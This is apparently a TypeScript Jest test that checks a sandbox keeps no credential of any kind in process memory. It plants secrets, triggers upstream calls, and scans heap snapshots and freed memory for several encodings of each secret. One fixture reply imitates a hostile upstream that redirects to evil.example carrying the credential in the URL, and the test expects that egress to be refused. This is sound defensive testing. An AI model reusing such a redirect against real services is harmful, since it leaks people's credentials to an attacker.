/**
 * Between two calls a sandbox has no credential in its memory: the process as the local host starts it is searched for a credential of every
 * kind, in several spellings. No live object of its heap has any, whatever the upstream has made of it; and, in `npm run attack`, after
 * calls whose upstream does not send it back, none of its bytes have, also those that are free. What design/sandbox.md says of garbage holds here too: V8 collects it
 * first, because a heap snapshot is asked for.
 */
import { mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import {
  type Credential,
  checkCredential,
  credentialShape,
  credentialText,
  partOf,
} from '../../core/request/credential/index.ts';
import type { ConsentAnswer, SandboxFrame, SandboxRequest, SealedTokens } from '../../core/sandbox/protocol.ts';
import { FunctionPool } from '../../local/functions/pool.ts';
import { ensureBundled } from '../../local/lib/bundled.ts';
import { isLongAttack } from '../support/attack.ts';
import { bundleOf, bundleTool } from '../support/bundles.ts';
import { defined } from '../support/defined.ts';
import { type MiniAws, sandboxVariables, startMiniAws } from '../support/miniAws.ts';
import { CODE, issuing, oneOfEachKind, type Planted, plantedCredentials } from '../support/planted.ts';
import { childrenWith, foundInMemory, heapOf, type Needle, snapshotOptions } from '../support/processMemory.ts';
import { type RecordedRequest, type Reply, startUpstream, type Upstream } from '../support/upstream.ts';

const TOKEN_HOST = 'login.memory.example';
const folder = realpathSync(mkdtempSync(join(tmpdir(), 'memory-')));
let aws: MiniAws;
let upstream: Upstream;
let login: Upstream;
let planted: readonly Planted[];
let log = '';

beforeAll(async () => {
  planted = await plantedCredentials(TOKEN_HOST);
  aws = await startMiniAws();
  upstream = await startUpstream({ asksForCertificate: true });
  login = await startUpstream({ host: TOKEN_HOST, respond: issuing, asksForCertificate: true });
});
afterAll(async () => {
  await Promise.all([upstream.close(), login.close(), aws.close()]);
  rmSync(folder, { recursive: true, force: true });
});

const bundles = await ensureBundled();

function startPool(): FunctionPool {
  const output = new PassThrough().setMaxListeners(0);
  output.on('data', (chunk) => {
    log += chunk;
  });
  return new FunctionPool(
    {
      logicalId: 'Sandbox',
      roleId: 'Role',
      variables: { ...sandboxVariables(aws), NODE_OPTIONS: snapshotOptions(folder) },
      place: 'process',
      module: join(bundles, 'sandbox/handler', 'index.mjs'),
      handler: 'handler',
      functionName: 'sandbox',
      memoryMb: 1_024,
      timeoutMs: 120_000,
      egress: { pinned: [...upstream.pinned, ...login.pinned], ca: `${upstream.ca}\n${login.ca}` },
    } as unknown as ConstructorParameters<typeof FunctionPool>[0],
    { workers: 1, log: output },
  );
}

/** Whatever of a request may be the credential. */
const sentIn = (request: RecordedRequest): string =>
  [request.target, ...request.headers.map(([name, value]) => `${name}: ${value}`)].join('\n');

const CHALLENGE = { status: 401, headers: { 'www-authenticate': 'Digest realm="things", nonce="7f31", qop="auth"' } };
const asJson = { 'content-type': 'application/json' };
type Replies = ReadonlyArray<(sent: string) => Reply>;

/** Answers without the credential. The last one is long: the parser of HTTP keeps the bytes of an answer until others take their place. */
const PLAIN: Replies = [
  () => ({ headers: asJson, body: '{"id":7}' }),
  () => ({ status: 302, headers: { location: '/other' } }),
  () => ({ raw: '', end: 'reset' }),
  () => ({ status: 401, body: 'who are you?' }),
  () => ({ headers: asJson, body: JSON.stringify({ id: 8, text: 'long '.repeat(500) }) }),
];
/** What an upstream may make of the credential. */
const REFLECTING: Replies = [
  (sent) => ({ headers: asJson, body: JSON.stringify({ seen: sent }) }),
  (sent) => ({ headers: { 'content-type': 'text/plain' }, body: Buffer.from(sent).toString('base64') }),
  (sent) => ({ status: 403, headers: asJson, body: JSON.stringify({ error: `bad ${encodeURIComponent(sent)}` }) }),
  (sent) => ({ status: 302, headers: { location: `https://evil.example/?${encodeURIComponent(sent)}` } }),
  (sent) => ({ headers: { ...asJson, etag: Buffer.from(sent).toString('base64url') }, body: '{}' }),
  () => ({ headers: asJson, body: '{"id":8}' }),
];

const spellings = (secret: string): Needle[] => {
  const base64 = Buffer.from(secret).toString('base64').replace(/=+$/, '').slice(0, -1);
  const forms: Record<string, Buffer> = {
    utf8: Buffer.from(secret),
    latin1: Buffer.from(secret, 'latin1'),
    utf16le: Buffer.from(secret, 'utf16le'),
    base64: Buffer.from(base64),
    base64url: Buffer.from(base64.replaceAll('+', '-').replaceAll('/', '_')),
    percent: Buffer.from(encodeURIComponent(secret)),
    json: Buffer.from(JSON.stringify(secret).slice(1, -1)),
    hex: Buffer.from(Buffer.from(secret).toString('hex')),
  };
  return Object.entries(forms).map(([name, bytes]) => ({ name: `${secret} as ${name}`, bytes }));
};

/** A server with this credential, and calls of it. */
async function serverWith({ auth }: Planted, serverId: string) {
  const pool = startPool();
  const invoke = (request: SandboxRequest): Promise<SandboxFrame> =>
    new Promise((done, fail) => {
      let text = '';
      pool.invoke(
        request,
        {
          chunk: (data) => {
            text += Buffer.from(data).toString();
          },
          done: () => done(JSON.parse(defined(text.trim().split('\n').at(-1)))),
          failed: (type, message) => fail(new Error(`${type}: ${message} ${log}`)),
        },
        { tenantId: serverId },
      );
    });
  const credential = checkCredential(auth);
  const origin = upstream.baseUrl;
  const bundle = aws.store({
    ...bundleOf([bundleTool('get', { program: { verb: 'GET', path: '/items', parameters: [] } })]),
    serverId,
    upstream: { baseUrl: origin, host: upstream.host, port: 443, timeoutMs: 60_000 },
    auth: { ...credentialShape(credential), origin },
  });
  const ciphertext = aws.encrypt(serverId, origin, credentialText({ credential }));
  const common = { serverId, bundle, origin, ciphertext };
  const tokens = await tokensOf(credential, common, invoke);
  return {
    /** The statuses or error codes of calls with these answers. */
    async call(replies: Replies): Promise<unknown[]> {
      const outcomes: unknown[] = [];
      for (const reply of replies) {
        upstream.respond = (request) =>
          partOf(credential, 'digest') && request.all('authorization').length === 0
            ? CHALLENGE
            : request.target.startsWith('/other')
              ? { headers: asJson, body: '{"id":9}' }
              : reply(sentIn(request));
        const call = { kind: 'call' as const, serverId, bundle, tool: 'get', arguments: {}, ciphertext };
        const frame = await invoke({ ...call, ...(tokens && { tokens }) });
        outcomes.push(frame.frame === 'result' ? (frame.outcome.errorCode ?? frame.outcome.status) : frame);
      }
      return outcomes;
    },
    pid: () => defined(childrenWith('--permission').at(-1)),
    close: () => pool.close(),
  };
}

type Common = Pick<Extract<SandboxRequest, { kind: 'exchange' }>, 'serverId' | 'bundle' | 'origin' | 'ciphertext'>;

/** The access token of a credential that has one, from its token endpoint. */
async function tokensOf(
  credential: Credential,
  common: Common,
  invoke: (request: SandboxRequest) => Promise<SandboxFrame>,
): Promise<SealedTokens | undefined> {
  const signIn = partOf(credential, 'oauth2');
  if (!signIn) return undefined;
  let consent: ConsentAnswer | undefined;
  if (signIn.grant === 'authorizationCode') {
    const holder = 'consent:1';
    const redirectUri = 'http://localhost/connect/callback';
    const begun = await invoke({ ...common, kind: 'authorize', holder, state: '1', redirectUri });
    if (begun.frame !== 'consent') throw new Error(JSON.stringify(begun));
    consent = { holder, sealed: begun.sealed, code: CODE };
  }
  const exchange = { kind: 'exchange' as const, holder: 'server', generation: 0, beginBefore: Date.now() + 60_000 };
  const frame = await invoke({ ...common, ...exchange, ...(consent && { consent }) });
  if (frame.frame !== 'tokens') throw new Error(JSON.stringify(frame));
  return { holder: 'server', sealed: frame.sealed };
}

/** What all memory of a process has, also where it is free; on systems that show it. */
async function foundFree(pid: number, needles: readonly Needle[]) {
  await heapOf(pid, folder);
  return process.platform === 'linux' ? foundInMemory(pid, needles) : [];
}

const SNAPSHOTS = 10;

/** What of the needles stays in the live objects of a process: a function that V8 is optimizing is held until that is done, with what it closes over. */
async function foundLive(pid: number, needles: readonly Needle[]) {
  let found: string[] = [];
  for (let taken = 0; taken < SNAPSHOTS; taken++) {
    const heap = await heapOf(pid, folder);
    found = needles.filter(({ bytes }) => heap.includes(bytes)).map(({ name }) => name);
    if (!heap.includes('/items')) return ['The heap is not that of the sandbox.'];
    if (found.length === 0) break;
  }
  return found;
}

test('after its calls a sandbox has no credential of any kind in memory', async () => {
  const found: Record<string, object> = {};
  const outcomes = new Set<string>();
  for (const [index, each] of oneOfEachKind(planted).entries()) {
    // Prepare
    const server = await serverWith(each, `srv_Memory${String(index).padStart(6, '0')}`);
    // The texts of private keys are copied by the library of TLS as it reads them (design/sandbox.md).
    const sent = each.sent.flatMap(spellings);
    const all = [...sent, ...each.kept.flatMap(spellings)];

    // Act
    outcomes.add(String(await server.call(PLAIN)));
    const free = isLongAttack ? await foundFree(server.pid(), sent) : [];
    outcomes.add(String(await server.call(REFLECTING)));
    const live = await foundLive(server.pid(), all);

    // Assess
    if (free.length + live.length > 0) found[each.name] = { free, live };
    server.close();
  }
  expect(found).toEqual({});
  expect([...outcomes]).toEqual([
    '200,200,upstream_unreachable,upstream_status,200',
    '200,200,upstream_status,egress_refused,200,200',
  ]);
}, 400_000);
